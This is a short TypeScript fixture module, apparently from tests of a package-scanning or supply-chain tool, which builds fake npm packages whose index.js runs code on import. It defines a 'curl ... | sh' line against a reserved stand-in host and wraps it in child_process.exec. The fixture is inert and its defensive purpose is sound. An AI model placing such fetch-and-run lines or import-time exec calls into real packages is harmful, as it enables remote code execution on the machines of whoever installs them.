import { manifest } from '../campaigns/kit.ts';

/** Files of a package by path. */
export type Files = Readonly<Record<string, string>>;

/** What every wrapping does in the end, inert: the host is reserved. */
export const LINE = 'curl -s http://a.weir.test/x | sh';
/** The same as code. */
export const RUN = `require('child_process').exec('${LINE}')`;

/** A package that runs a text when it is imported. */
export function imported(code: string, more: Files = {}): Files {
  return { 'package.json': manifest(), 'index.js': code, ...more };
}
